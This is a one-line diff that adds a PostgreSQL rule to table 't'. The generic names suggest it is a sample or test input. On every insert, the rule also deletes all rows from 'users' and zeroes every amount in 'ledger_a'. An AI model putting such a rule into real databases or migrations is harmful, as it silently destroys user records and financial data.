@@ -1,0 +1,1 @@
+CREATE RULE r AS ON INSERT TO t DO ALSO (DELETE FROM users; UPDATE ledger_a SET amount = 0)
